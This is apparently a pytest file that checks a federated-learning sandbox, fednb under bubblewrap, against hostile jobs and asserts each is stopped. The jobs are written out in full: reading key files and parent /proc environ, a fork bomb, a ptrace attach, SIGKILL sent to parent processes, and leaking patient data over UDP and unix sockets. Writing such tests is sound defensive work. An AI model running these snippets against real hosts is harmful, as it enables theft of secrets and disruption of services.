"""Hostile jobs in the real sandbox: each one fails with a reason code and the domain
keeps serving. Every job is approved by the owner first, as a careless owner would.

No test here depends on how fast this machine is: the domain's run limit is generous, and
the tests that need a run cut lower it for that run only (an endless loop outlasts any
limit). Without bubblewrap they skip, and fail under ``FEDNB_REQUIRE_SANDBOX=1``.
"""

from __future__ import annotations

import contextlib
import os
import re
import socket
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import httpx
import numpy as np
import pytest
import xarray as xr

import fednb
from fednb.domain.runner import JobSpec, WorkerPool
from fednb.protocol import RunInfo
from tests.adversarial.conftest import require_sandbox
from tests.conftest import RUN_LIMIT_S, Hospital, make_hospital, run_limit, worker_cgroups


@pytest.fixture(scope="module", autouse=True)
def sandbox() -> None:
    require_sandbox()


@pytest.fixture(scope="module")
def hospital(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hospital]:
    h = make_hospital(tmp_path_factory.mktemp("sandbox") / "st-mary", run_timeout_s=RUN_LIMIT_S)
    yield h
    h.server.stop()




def attempt(h: Hospital, fn: fednb.RemoteFunction, **params: object) -> RunInfo:
    req = fn.request(h.alice(), "breast-cancer")
    h.owner().requests.get(req.id).approve()
    return req.run(**params).wait(RUN_LIMIT_S + 120)


def worker_run(h: Hospital, run_id: str) -> int:
    """Which run of its warm worker this was, from the owner's log (1 after a cold start)."""
    log = h.dom.runs.owner_view(run_id).owner_log or ""
    found = re.findall(r"fednb: run (\d+) of this worker", log)
    assert found, log
    return int(found[-1])


def assert_stopped(h: Hospital, info: RunInfo, *reasons: str) -> None:
    assert info.status in ("failed", "timeout", "killed"), info
    assert info.reason in reasons, info
    assert info.owner_log is None  # the scientist never sees logs
    assert info.release_state is None
    assert h.alice().info.name == "St Mary"  # the domain keeps serving


def test_no_socket_reaches_the_domains_own_port(hospital: Hospital) -> None:
    @fednb.remote(params={"port": (int, 1, 65535)})
    def connect_home(data, port=1):
        import socket

        s = socket.create_connection(("127.0.0.1", port), timeout=2)
        s.sendall(b"GET /api/v1/info HTTP/1.0\r\n\r\n")
        return np.frombuffer(s.recv(100), dtype=np.uint8)

    info = attempt(hospital, connect_home, port=hospital.server.port)
    assert_stopped(hospital, info, "exception")


@pytest.mark.parametrize("target", ["store.sqlite", "audit.key", "datasets/diabetes/private.zarr/.zmetadata",
                                    "domain.json", "identity.key", "audit.head"])
def test_domain_files_are_unreadable(hospital: Hospital, target: str) -> None:
    assert hospital.dom.identity.public  # made on first use: the secure-aggregation secret key
    assert (hospital.dom.home / target).is_file()

    @fednb.remote
    def read_file(data):
        import glob

        paths = [HOME + "/" + TARGET, *glob.glob("/*/" + TARGET), *glob.glob("/*/*/" + TARGET)]  # noqa: F821
        for path in paths:
            try:
                return np.frombuffer(open(path, "rb").read(64), dtype=np.uint8)
            except OSError:
                continue
        raise FileNotFoundError(TARGET)  # noqa: F821

    source = read_file.source.replace("TARGET", repr(target)).replace("HOME", repr(str(hospital.dom.home)))
    fn = fednb.RemoteFunction(read_file.fn, source=source)
    assert_stopped(hospital, attempt(hospital, fn), "exception")


def test_only_the_approved_dataset_is_mounted(hospital: Hospital) -> None:
    @fednb.remote
    def other_dataset(data):
        import os

        return np.asarray(len(os.listdir("/data/diabetes")))

    assert_stopped(hospital, attempt(hospital, other_dataset), "exception")


def test_proc_shows_no_parent(hospital: Hospital) -> None:
    @fednb.remote(params={"pid": (int, 1, 1 << 22)})
    def parent_environ(data, pid=1):
        with open(f"/proc/{pid}/environ", "rb") as f:
            return np.frombuffer(f.read(), dtype=np.uint8)

    assert_stopped(hospital, attempt(hospital, parent_environ, pid=os.getpid()), "exception")


def test_environment_variables_do_not_leak(hospital: Hospital) -> None:
    assert os.environ["FEDNB_TEST_CANARY"]

    @fednb.remote
    def read_env(data):
        import os

        return np.frombuffer(os.environ["FEDNB_TEST_CANARY"].encode(), dtype=np.uint8)

    assert_stopped(hospital, attempt(hospital, read_env), "exception")


def test_remounting_a_read_only_bind_fails(hospital: Hospital) -> None:
    @fednb.remote
    def remount(data):
        import subprocess

        subprocess.run(["mount", "-o", "remount,rw", "/data/breast-cancer"], check=True)
        open("/data/breast-cancer/evil", "w").write("x")
        return np.asarray(1)

    assert_stopped(hospital, attempt(hospital, remount), "exception")


def test_writing_outside_the_work_dir_fails(hospital: Hospital) -> None:
    @fednb.remote
    def write_outside(data):
        for path in ("/evil", "/usr/evil", "/data/breast-cancer/evil", "/etc/evil"):
            try:
                open(path, "w").write("x")
            except OSError:
                continue
            return np.asarray(1)
        raise PermissionError("nothing writable")

    assert_stopped(hospital, attempt(hospital, write_outside), "exception")


def test_a_fork_bomb_is_contained(hospital: Hospital) -> None:
    """The process cap holds: a job forks until the kernel refuses, and reports how far it got."""
    @fednb.remote
    def fork_bomb(data):
        import os
        import time

        forked = 0
        while forked < 10_000:
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                time.sleep(600)
                os._exit(0)
            forked += 1
        return np.asarray(forked)

    req = fork_bomb.request(hospital.alice(), "breast-cancer", runs=2)
    hospital.owner().requests.get(req.id).approve()
    run = req.run()
    info = run.wait(RUN_LIMIT_S + 120)
    assert info.status == "succeeded", hospital.dom.runs.owner_view(info.id).owner_log
    hospital.owner().runs.get(info.id).release()
    pool = hospital.dom.pool()
    assert isinstance(pool, WorkerPool)
    cap = pool.limits.max_procs
    assert int(run.result(timeout=60).weights["result"]) < cap  # the zygote and the run count too
    # the bomb's processes were killed with its run: the same worker serves the next one
    assert worker_run(hospital, req.run().wait(RUN_LIMIT_S + 120).id) == 2


def test_a_4gib_allocation_fails(hospital: Hospital) -> None:
    @fednb.remote
    def allocate(data):
        big = np.ones(4 << 30, dtype=np.uint8)
        return np.asarray(big.sum())

    assert_stopped(hospital, attempt(hospital, allocate), "memory_limit")


def test_an_endless_loop_times_out_and_leaves_its_worker_warm(hospital: Hospital) -> None:
    @fednb.remote(params={"spin": (int, 0, 1)})
    def forever(data, spin=0):
        while spin:
            pass
        return np.zeros(1)

    before = worker_cgroups(os.getpid())
    req = forever.request(hospital.alice(), "breast-cancer", runs=2)
    hospital.owner().requests.get(req.id).approve()
    with run_limit(hospital, 1.0):
        info = req.run(spin=1).wait(RUN_LIMIT_S)
    assert_stopped(hospital, info, "wall_clock")
    assert info.status == "timeout"
    after = req.run(spin=0).wait(RUN_LIMIT_S + 120)
    assert after.status == "succeeded"
    assert (worker_run(hospital, info.id), worker_run(hospital, after.id)) == (1, 2)  # still warm
    deadline = time.monotonic() + 60  # the request is used up: its worker is retired
    while worker_cgroups(os.getpid()) - before and time.monotonic() < deadline:
        time.sleep(0.05)
    assert worker_cgroups(os.getpid()) <= before  # the worker's cgroup went with it


def test_stopped_workers_leave_no_cgroup_behind(tmp_path: Path) -> None:
    """Warm workers killed by discard() and shutdown(): bubblewrap is reaped before the
    sandboxed worker (pid 1 of its namespace) has left the cgroup, so an rmdir right away
    failed with EBUSY in about half the stops and the cgroup stayed."""
    before = worker_cgroups(os.getpid())
    xr.Dataset({"x": ("patient", np.zeros(3))}).to_zarr(tmp_path / "d.zarr")
    pool, made = WorkerPool("bubblewrap", max_warm=8), set()
    for i in range(8):
        job = JobSpec(f"r{i}", "def f(data):\n    return data\n", "f", {"d": tmp_path / "d.zarr"},
                      tmp_path / f"w{i}")
        worker, failure = pool._worker(job)
        assert failure is None, failure
        made |= set(worker._cgroup_dirs())
        if i % 2:
            pool.discard(job.request_id)
    pool.shutdown()
    if not made:
        pytest.skip("this machine lets the domain write no cgroup")
    assert all(d.name.startswith(f"fednb-{os.getpid()}-") for d in made)
    assert not [d for d in made if d.exists()]
    assert worker_cgroups(os.getpid()) <= before


def test_a_1gb_result_is_refused(hospital: Hospital) -> None:
    @fednb.remote
    def huge(data):
        return np.zeros(1 << 27)  # 1 GiB of float64

    assert_stopped(hospital, attempt(hospital, huge), "output_too_large", "memory_limit")


def test_a_forged_oversized_frame_is_refused_by_the_parent(hospital: Hospital) -> None:
    @fednb.remote
    def forge(data):
        import os
        import stat
        import struct

        for fd in range(3, 64):
            try:
                if stat.S_ISFIFO(os.fstat(fd).st_mode):
                    os.write(fd, struct.pack("<Q", 1 << 40))
            except OSError:
                pass
        import time

        time.sleep(30)

    assert_stopped(hospital, attempt(hospital, forge), "output_too_large")


def test_exception_text_reaches_only_the_owner(hospital: Hospital) -> None:
    @fednb.remote
    def smuggle(data):
        raise ValueError(f"SMUGGLED mean radius = {data.x.values[:, 0].mean():.6f}")

    info = attempt(hospital, smuggle)
    assert_stopped(hospital, info, "exception")
    owner_view = hospital.owner().runs.get(info.id).info
    assert "SMUGGLED mean radius = 14.127292" in (owner_view.owner_log or "")


def test_udp_reaches_neither_the_host_nor_the_internet(hospital: Hospital) -> None:
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("127.0.0.1", 0))
    listener.setblocking(False)

    @fednb.remote(params={"port": (int, 1, 65535)})
    def udp_out(data, port=1):
        import socket

        for addr in (("127.0.0.1", port), ("8.8.8.8", 53)):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(1)
            try:
                s.sendto(f"SMUGGLED {data.x.values[0, 0]}".encode(), addr)
                return np.frombuffer(s.recvfrom(100)[0], dtype=np.uint8)
            except OSError:
                continue
        raise ConnectionError("no UDP peer answered")

    info = attempt(hospital, udp_out, port=listener.getsockname()[1])
    assert_stopped(hospital, info, "exception")
    with pytest.raises(BlockingIOError):  # not one datagram arrived
        listener.recv(100)
    listener.close()


def test_a_unix_socket_of_the_host_is_out_of_reach(hospital: Hospital) -> None:
    path = hospital.dom.home / "fednb-test.sock"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(str(path))
    listener.listen(1)
    listener.setblocking(False)

    @fednb.remote
    def unix_home(data):
        import glob
        import socket

        for path in [PATH, *glob.glob("/*/*.sock"), *glob.glob("/run/*.sock")]:  # noqa: F821
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                s.connect(path)
                s.sendall(b"SMUGGLED")
                return np.asarray(1)
            except OSError:
                continue
        raise ConnectionError("no unix socket reachable")

    source = unix_home.source.replace("PATH", repr(str(path)))
    assert_stopped(hospital, attempt(hospital, fednb.RemoteFunction(unix_home.fn, source=source)),
                   "exception")
    with pytest.raises(BlockingIOError):  # nobody connected
        listener.accept()
    listener.close()
    path.unlink()


def test_an_abstract_unix_socket_of_the_host_is_out_of_reach(hospital: Hospital) -> None:
    name = f"fednb-test-{uuid.uuid4().hex}"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind("\0" + name)  # abstract sockets belong to the network namespace
    listener.listen(1)
    listener.setblocking(False)

    @fednb.remote
    def abstract_home(data):
        import socket

        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect("\0" + NAME)  # noqa: F821
        s.sendall(b"SMUGGLED")
        return np.asarray(1)

    source = abstract_home.source.replace("NAME", repr(name))
    assert_stopped(hospital, attempt(hospital, fednb.RemoteFunction(abstract_home.fn, source=source)),
                   "exception")
    with pytest.raises(BlockingIOError):
        listener.accept()
    listener.close()


def test_proc_holds_no_other_process(hospital: Hospital) -> None:
    """/proc shows the run and its worker's zygote (pid 1, the same program, which keeps no
    state of runs) and nothing else; the zygote is not dumpable, so neither its environment,
    memory, descriptors nor root are open to the run."""
    @fednb.remote(params={"pid": (int, 1, 1 << 22)})
    def other_processes(data, pid=1):
        import os

        others = [p for p in os.listdir("/proc") if p.isdigit() and int(p) not in (1, os.getpid())]
        for p in [*others, str(pid)]:
            if os.path.exists(f"/proc/{p}"):
                return np.frombuffer(p.encode(), dtype=np.uint8)
        for leaf in ("environ", "root/etc/hostname", "mem", "fd/0", "fd/1", "fd/3", "fd/4", "maps"):
            try:
                with open(f"/proc/1/{leaf}", "rb") as f:
                    return np.frombuffer(f.read(64) or b"-", dtype=np.uint8)
            except OSError:
                continue
        raise ProcessLookupError(f"no other process in /proc: {others}")

    assert_stopped(hospital, attempt(hospital, other_processes, pid=os.getpid()), "exception")


@pytest.mark.parametrize("where", ["/job", "/tmp"])
def test_filling_the_disk_stops_at_the_scratch_cap(hospital: Hospital, where: str) -> None:
    @fednb.remote
    def fill(data):
        chunk = b"\0" * (16 << 20)
        for i in range(1 << 16):  # 1 TiB in 64 MiB files, each under the file-size cap
            with open(f"{WHERE}/fill{i}", "wb") as f:  # noqa: F821
                for _ in range(4):
                    f.write(chunk)
        return np.asarray(1)

    source = fill.source.replace("WHERE", repr(where))
    info = attempt(hospital, fednb.RemoteFunction(fill.fn, source=source))
    assert_stopped(hospital, info, "exception")
    work = hospital.dom.home / "work"
    assert sum(p.stat().st_size for p in work.rglob("*") if p.is_file()) < 16 << 20  # nothing left on disk


def test_exhausting_file_descriptors_stays_in_the_sandbox(hospital: Hospital) -> None:
    @fednb.remote
    def fds(data):
        import builtins

        builtins.KEEP = []  # held past the call, so the worker replies with none to spare
        while True:
            builtins.KEEP.append(open("/dev/null", "rb"))

    assert_stopped(hospital, attempt(hospital, fds), "exception")


def test_metrics_smuggle_nothing_past_their_bounds(hospital: Hospital) -> None:
    @fednb.remote(metrics={"loss": (0.0, 1.0)})
    def smuggle_metrics(data):
        mean = float(data.x.values[:, 0].mean())
        return fednb.Update(weights={"w": np.zeros(2)},
                            metrics={"loss": mean * 1e6, f"radius_{mean:.6f}": mean, "accuracy": mean})

    req = smuggle_metrics.request(hospital.alice(), "breast-cancer")
    hospital.owner().requests.get(req.id).approve()
    run = req.run()
    info = run.wait(120)
    assert info.status == "succeeded" and info.release_state == "held", info  # no DP: held
    hospital.owner().runs.get(info.id).release()
    assert run.result(60).metrics == {"loss": 1.0}  # clipped; undeclared metrics dropped
    raw = httpx.get(f"{hospital.url}/api/v1/runs/{info.id}/result",
                    headers={"Authorization": f"Bearer {hospital.alice_token}"}).content
    assert b"14.127" not in raw and b"radius" not in raw and b"accuracy" not in raw


@pytest.mark.parametrize(("result", "reason"), [
    ('{"w": np.array([1.0, np.nan])}', "nonfinite_output"),
    ('{"w": np.full(3, -np.inf, dtype=np.float16)}', "nonfinite_output"),
    ('{"w": np.frombuffer(bytes.fromhex("010000000000f07f"), dtype=np.float64)}', "nonfinite_output"),
    ('fednb.Update(weights={"w": np.zeros(2)}, metrics={"loss": float("nan")})', "nonfinite_output"),
    ("np.zeros(3, dtype=np.complex128)", "invalid_output"),
    ('np.array([f"{data.x.values[0, 0]}"])', "invalid_output"),
], ids=["nan", "float16-inf", "signalling-nan", "nan-metric", "complex", "text"])
def test_nonfinite_and_foreign_outputs_are_refused(hospital: Hospital, result: str, reason: str) -> None:
    @fednb.remote(metrics={"loss": (0.0, 1.0)})
    def odd_output(data):
        return RESULT  # noqa: F821

    source = odd_output.source.replace("RESULT", result)
    fn = fednb.RemoteFunction(odd_output.fn, source=source, metrics={"loss": (0.0, 1.0)})
    assert_stopped(hospital, attempt(hospital, fn), reason)


def test_signals_reach_no_process_outside(hospital: Hospital) -> None:
    @fednb.remote(params={"pid": (int, 1, 1 << 22)})
    def kill_parent(data, pid=1):
        import os
        import signal

        for target in (os.getppid(), 1, -1):  # its parent, its namespace's init, everyone
            with contextlib.suppress(OSError):
                os.kill(target, signal.SIGKILL)
        os.kill(pid, signal.SIGKILL)  # the domain itself
        return np.asarray(1)

    assert_stopped(hospital, attempt(hospital, kill_parent, pid=os.getpid()), "exception")


def test_fednb_domain_code_reaches_no_store(hospital: Hospital) -> None:
    @fednb.remote
    def open_store(data):
        import glob

        from fednb.domain import Domain

        for home in [HOME, "/job", "/tmp", *glob.glob("/*"), *glob.glob("/*/*")]:  # noqa: F821
            try:
                return np.asarray(len(Domain.open(home).list_users()))
            except Exception:
                continue
        raise LookupError("no domain home in reach")

    source = open_store.source.replace("HOME", repr(str(hospital.dom.home)))
    assert_stopped(hospital, attempt(hospital, fednb.RemoteFunction(open_store.fn, source=source)),
                   "exception")


def test_ptrace_attaches_to_nothing(hospital: Hospital) -> None:
    @fednb.remote(params={"pid": (int, 1, 1 << 22)})
    def attach(data, pid=1):
        import ctypes
        import os

        libc = ctypes.CDLL(None, use_errno=True)
        attach, seize = 16, 0x4206  # PTRACE_ATTACH, PTRACE_SEIZE
        for target in {pid, os.getppid(), 1} - {os.getpid()}:  # the domain, the parent, init
            for op in (attach, seize):
                if libc.ptrace(op, target, 0, 0) == 0:
                    return np.asarray(target)
        raise PermissionError(ctypes.get_errno(), "ptrace refused")

    assert_stopped(hospital, attempt(hospital, attach, pid=os.getpid()), "exception")


def test_the_domain_still_runs_honest_code_afterwards(hospital: Hospital) -> None:
    @fednb.remote
    def honest(data):
        return np.asarray(data.sizes["patient"])

    info = attempt(hospital, honest)
    assert info.status == "succeeded"


def test_workers_run_the_numpy_kernels_and_load_no_jit_compiler(hospital: Hospital) -> None:
    @fednb.remote
    def which_kernels(data):
        import sys

        from fednb import kernels

        if kernels.backend() != "numpy" or "numba" in sys.modules:
            raise RuntimeError("a JIT compiler runs beside untrusted code")
        return np.zeros(1)

    assert attempt(hospital, which_kernels).status == "succeeded"
